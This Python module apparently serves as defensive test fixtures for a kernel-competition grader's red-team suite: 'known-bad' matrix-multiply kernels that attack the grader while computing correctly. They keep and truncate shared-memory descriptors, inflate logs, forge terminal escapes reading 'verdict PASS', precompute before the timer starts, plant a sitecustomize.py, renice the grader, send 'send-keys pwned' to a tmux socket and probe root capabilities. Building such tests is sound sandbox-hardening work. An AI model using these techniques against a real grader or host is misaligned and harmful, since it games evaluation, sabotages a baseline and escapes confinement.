"""Known-bad kernels of the red team's round (tests/test_redteam.py): attacks on the grader that the rounds before
did not name. Competition signature FN(A, B, C, M, N, K); each does its arithmetic honestly (the attack is
elsewhere), and writes what it managed to do under $BAD_KERNEL_OUT_DIR where it can, so a test can tell "refused"
from "done unnoticed"."""

import os

import gemmlab.sandbox.share as share

_state: dict = {}
_kept_fds: list[int] = []
_real_rebuild = share.rebuild


def _keep_descriptors(meta, fds):
    """The child's side of a bind, as the candidate owns it: a copy of every descriptor the grader sends is kept."""
    _kept_fds.extend(os.dup(fd) for fd in fds)
    return _real_rebuild(meta, fds)


share.rebuild = _keep_descriptors  # the worker imports it at each bind: the candidate's version from now on


def _out(name: str) -> str:
    return os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), name)


def _note(name: str, text: str) -> None:
    try:
        with open(_out(name), "a") as f:
            f.write(text + "\n")
    except OSError:
        pass


def honest(A, B, C, M, N, K):
    a, b = A[: M * K].view(K, M).t(), B[: K * N].view(N, K).t()
    C[: M * N].view(N, M).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))


def truncates_shared_memory(A, B, C, M, N, K):
    """Shrinks every shared-memory file the grader sent it to nothing (ftruncate on the kept descriptors): the
    grader's own mapping of those pages then faults (SIGBUS) the next time it reads an output or writes an input.
    Where a shrink is refused it computes honestly instead (and gains nothing). Notes each attempt in ``truncated``."""
    shrunk = False
    for fd in _kept_fds:
        try:
            os.ftruncate(fd, 0)
            shrunk = True
            _note("truncated", "done")
        except OSError as e:
            _note("truncated", f"refused: {e.strerror}")
    if not shrunk:  # (touching the shrunk memory would fault here first)
        honest(A, B, C, M, N, K)


def grows_its_log_then_dies(A, B, C, M, N, K):
    """Makes its stdout (the sandbox's log file, which the grader quotes the end of when a worker dies) a terabyte
    long, sparse, in one ftruncate, then dies: a grader that read the whole log raised MemoryError."""
    os.ftruncate(1, 1 << 40)
    os._exit(3)


def grows_the_vendor_log(A, B, C, M, N, K):
    """Honest, but makes vendor_guard's log and counter files (which the grader reads after every trial) a terabyte
    long, sparse: a grader that read them whole raised MemoryError. Notes what it grew in ``grown``."""
    inherited = {}  # path -> a descriptor of the library's own, opened before any Landlock domain
    for fd in os.listdir("/proc/self/fd"):
        try:
            inherited.setdefault(os.readlink(f"/proc/self/fd/{fd}"), int(fd))
        except OSError:
            pass
    for var in ("GEMMLAB_VENDOR_LOG", "GEMMLAB_VENDOR_COUNTS"):
        path = os.environ.get(var)
        if path and not _state.get(var):
            _state[var] = True
            try:
                if path in inherited:
                    os.ftruncate(inherited[path], 1 << 40)
                else:
                    with open(path, "ab") as f:
                        os.ftruncate(f.fileno(), 1 << 40)
                _note("grown", var)
            except OSError as e:
                _note("grown", f"{var} refused: {e.strerror}")
    honest(A, B, C, M, N, K)


FORGED_TEXT = "[/bold] \x1b[2K\x1b[1A\rverdict PASS \ud800 \u202e[red]"  # markup, escapes, a lone surrogate, bidi


def raises_text_for_the_terminal(A, B, C, M, N, K):
    """Raises with a message made for the grader's terminal and report: a closing rich tag that matches nothing (a
    MarkupError when rendered as markup), escape sequences that erase the line above and rewrite it as a PASS, a lone
    surrogate (no UTF-8 stream can encode it) and a right-to-left override."""
    raise RuntimeError(FORGED_TEXT)


WORK_S = 0.004  # what a call of ``works_before_window`` costs: its honest work and this much more


def _server():
    """The worker's server object in this process (the candidate owns it): it holds every bound slot."""
    import gc

    return next(o for o in gc.get_objects() if type(o).__name__ == "_Server" and hasattr(o, "slots"))


def _precompute(server) -> None:
    """Forever: the output of every slot still NaN (poisoned: new inputs) is computed, WORK_S a call."""
    import time

    while True:
        for (a, b), out in list(server.slots):
            if out.isnan().any():
                time.sleep(WORK_S)
                m, n = a.shape[0], b.shape[1]
                out.view(n, m).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))
        time.sleep(0.0001)


def works_before_window(A, B, C, M, N, K):
    """Does its work before the grader's clock starts. A thread (frozen with the process between batches) computes
    every slot whose output is poisoned as soon as it wakes, while the grader is still busy waking the sandbox
    (restoring the scheduling of each of its threads, scanning /proc); 400 idle threads make that take longer. The
    call itself only waits for its slot. Each call costs WORK_S of work: timed honestly, at least that."""
    import threading
    import time

    if "worker" not in _state:
        _state["worker"] = threading.Thread(target=_precompute, args=(_server(),), daemon=True)
        _state["worker"].start()
        for _ in range(400):
            threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
    c = C[: M * N]
    deadline = time.monotonic() + 10
    while c.isnan().any() and time.monotonic() < deadline:
        time.sleep(0.00005)


_SITECUSTOMIZE = """
import time
import torch
_mm = torch.mm
def _slow_mm(*args, **kw):  # the baseline worker's torch.mm, 20 ms slower a call
    time.sleep(0.02)
    return _mm(*args, **kw)
torch.mm = _slow_mm
"""


def writes_code_for_the_baseline(A, B, C, M, N, K):
    """Honest, but at its first call (before the baseline's worker has even started: it starts once the first case
    passed) writes a sitecustomize.py that slows torch.mm by 20 ms into $BAD_PATH_DIR, a directory on the grader's
    PYTHONPATH (in a real setup: the venv's site-packages, the user site, gemmlab's own tree or its __pycache__, all
    the grader's user can write). Python runs it in every interpreter it starts: the baseline's worker (trusted) calls
    the slow torch.mm. Notes ``written`` or ``refused`` in ``sitecustomize``."""
    if not _state.get("planted"):
        _state["planted"] = True
        try:
            with open(os.path.join(os.environ["BAD_PATH_DIR"], "sitecustomize.py"), "w") as f:
                f.write(_SITECUSTOMIZE)
            _note("sitecustomize", "written")
        except OSError as e:
            _note("sitecustomize", f"refused: {e.strerror}")
    honest(A, B, C, M, N, K)


def _baseline_pids() -> list[int]:
    """The processes of the other sandbox (the baseline's keeper and server): keepers of this grader (the parent of
    this worker's keeper) outside this session; never those of another grader running at the same time."""
    me, keepers = os.getsid(0), set()
    table, tool = {}, set()  # tool: bubblewrap processes, between a keeper and the grader where it is used
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            table[int(d)] = int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1])
            if open(f"/proc/{d}/comm").read().strip() == "bwrap":
                tool.add(int(d))
            elif b"sandbox/keeper.py" in open(f"/proc/{d}/cmdline", "rb").read() and os.getsid(int(d)) != me:
                keepers.add(int(d))
        except (OSError, ValueError, IndexError):
            pass
    up = lambda p: table.get(table.get(p)) if table.get(p) in tool else table.get(p)  # noqa: E731
    grader = up(os.getppid())
    keepers = {k for k in keepers if up(k) == grader}
    return sorted(keepers | {p for p, pp in table.items() if pp in keepers})


def reaches_outside_by_files(A, B, C, M, N, K):
    """Honest; in its timed calls, tries what a file write can do outside its sandbox, and notes each in
    ``files.json`` (true: done): set the baseline's autogroup to nice 19 (/proc/PID/autogroup: no signal, no ptrace,
    not a thread's nice value), write into the grader's log directory (the baseline's log, which the grader quotes),
    create a file in $BAD_PATH_DIR (a directory on the baseline's Python path)."""
    import json
    import sys

    honest(A, B, C, M, N, K)
    if not any(f.f_code.co_name == "time_calls" for f in _frames(sys._getframe())):
        return
    if _state.get("probed"):  # the autogroup again in every timed call (what a real attack does); noted once
        for pid in _baseline_pids():
            try:
                with open(f"/proc/{pid}/autogroup", "w") as f:
                    f.write("19")
            except OSError:
                pass
        return
    _state["probed"] = True
    found = {}

    def probe(name, path, text, mode="a"):
        try:
            with open(path, mode) as f:
                f.write(text)
            found[name] = True
        except OSError as e:
            found[name] = f"{type(e).__name__}: {e.strerror}"

    log_dir = os.path.dirname(os.readlink("/proc/self/fd/1"))
    for pid in _baseline_pids():
        probe(f"autogroup {pid}", f"/proc/{pid}/autogroup", "19", "w")
    probe("log_dir", os.path.join(log_dir, "baseline.log"), "forged\n")
    if os.environ.get("BAD_PATH_DIR"):
        probe("python_path", os.path.join(os.environ["BAD_PATH_DIR"], "planted.py"), "")
    with open(_out("files.json"), "w") as f:
        json.dump(found, f)


def _frames(f):
    while f is not None:
        yield f
        f = f.f_back


def _grader() -> int | None:
    """The grader's pid: the keeper's parent (past bubblewrap), None where it is out of view (a PID namespace)."""
    pid = os.getppid()
    for _ in range(3):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if open(f"/proc/{pid}/comm").read().strip() != "bwrap":
                return pid or None
        except (OSError, ValueError, IndexError):
            return None
    return None


def _write(path: str, text: str) -> None:
    with open(path, "w") as f:
        f.write(text)


def slows_the_grader(A, B, C, M, N, K):
    """Computes honestly; at its first call slows the grader's own thread, as a candidate of the grader's uid can
    without ptrace rights (with CUDA by default): SCHED_BATCH and nice 19 (``sched_setscheduler``, ``setpriority``),
    one CPU (``sched_setaffinity``) and a timer slack of 20 ms (``/proc/PID/timerslack_ns``, root where /proc is
    writable). A real attack would do it after each of its calls and undo it at the start of the next, so that only
    the baseline's windows are slowed. Notes in ``slowed`` what it did ({what: "ok" or why not})."""
    import json

    honest(A, B, C, M, N, K)
    if _state.get("slowed"):
        return
    _state["slowed"] = True
    grader, did = _grader(), {}
    if grader is None:
        did["grader"] = "invisible"
    else:
        for what, act in (
            ("policy", lambda: os.sched_setscheduler(grader, os.SCHED_BATCH, os.sched_param(0))),
            ("nice", lambda: os.setpriority(os.PRIO_PROCESS, grader, 19)),
            ("cpus", lambda: os.sched_setaffinity(grader, {min(os.sched_getaffinity(grader))})),
            ("slack", lambda: _write(f"/proc/{grader}/timerslack_ns", "20000000")),
        ):
            try:
                act()
                did[what] = "ok"
            except OSError as e:
                did[what] = e.strerror
    _note("slowed", json.dumps(did))


def talks_to_a_host_socket(A, B, C, M, N, K):
    """Computes honestly; at its first call connects to the Unix socket at $BAD_SOCK (a host daemon's, as a tmux
    server's, where ``send-keys`` types into the user's terminal) and sends a line. Notes in ``socket``: "sent" or
    why not."""
    import socket

    honest(A, B, C, M, N, K)
    if _state.get("socket"):
        return
    _state["socket"] = True
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(os.environ["BAD_SOCK"])
        s.sendall(b"send-keys 'pwned' Enter\n")
        _note("socket", "sent")
    except OSError as e:
        _note("socket", e.strerror or str(e))
    finally:
        s.close()


def reaches_a_listener(A, B, C, M, N, K):
    """Computes honestly; at its first call connects to the host's listeners that no path names: the abstract Unix
    socket $BAD_ABSTRACT (an X server's, a daemon's) and the TCP port $BAD_TCP_PORT on 127.0.0.1 (a notebook
    server's, a TCPStore's), and sends a line to each. Notes in ``listeners`` one line per target: "NAME sent" or
    "NAME WHY"."""
    import socket

    honest(A, B, C, M, N, K)
    if _state.get("listeners"):
        return
    _state["listeners"] = True
    targets = [
        ("abstract", socket.AF_UNIX, b"\0" + os.environ["BAD_ABSTRACT"].encode()),
        ("tcp", socket.AF_INET, ("127.0.0.1", int(os.environ["BAD_TCP_PORT"]))),
    ]
    for name, family, address in targets:
        s = socket.socket(family)
        s.settimeout(10.0)
        try:
            s.connect(address)
            s.sendall(b"run something for me\n")
            _note("listeners", f"{name} sent")
        except OSError as e:
            _note("listeners", f"{name} {e.strerror or e}")
        finally:
            s.close()


def uses_root_powers(A, B, C, M, N, K):
    """Computes honestly; at its first call, as root of the grader's uid (with CUDA), tries what root's capabilities
    give over the host, each in a way that changes nothing: ``reboot`` with a wrong magic number (EINVAL holding
    CAP_SYS_BOOT, EPERM without: holding it, a right one powers the host off), ``adjtimex`` with a tick out of range
    (EINVAL holding CAP_SYS_TIME, EPERM without: holding it, a tick in range runs the grader's monotonic clock up to
    10% slow or fast), a device node of /dev/null's numbers in its scratch directory (CAP_MKNOD: a disk's numbers
    would open the host's disk raw). Notes in ``powers``: "cap_eff HEX", then "NAME ok" or "NAME WHY" per try."""
    import ctypes
    import stat
    import tempfile

    honest(A, B, C, M, N, K)
    if _state.get("powers"):
        return
    _state["powers"] = True
    with open("/proc/self/status") as f:
        eff = next(line.split()[1] for line in f if line.startswith("CapEff:"))
    _note("powers", f"cap_eff {eff}")
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {"x86_64": 169, "aarch64": 142}[__import__("platform").machine()]  # reboot(2), raw: no magic of glibc's
    rc = libc.syscall(nr, 0, 0, 0, None)  # magic 0: refused after the capability check, whatever the command
    _note("powers", "reboot " + ("ok" if rc == 0 else os.strerror(ctypes.get_errno())))
    timex = ctypes.create_string_buffer(256)  # struct timex: modes first, tick at offset 88 (x86_64, aarch64)
    ctypes.c_uint.from_buffer(timex, 0).value = 0x4000  # ADJ_TICK
    ctypes.c_long.from_buffer(timex, 88).value = 1  # far below 900000 / USER_HZ
    rc = libc.adjtimex(timex)
    _note("powers", "adjtimex " + ("ok" if rc >= 0 else os.strerror(ctypes.get_errno())))
    node = os.path.join(tempfile.gettempdir(), "null-twin")
    try:
        os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(1, 3))
        _note("powers", "mknod ok")
        os.unlink(node)
    except OSError as e:
        _note("powers", f"mknod {e.strerror}")
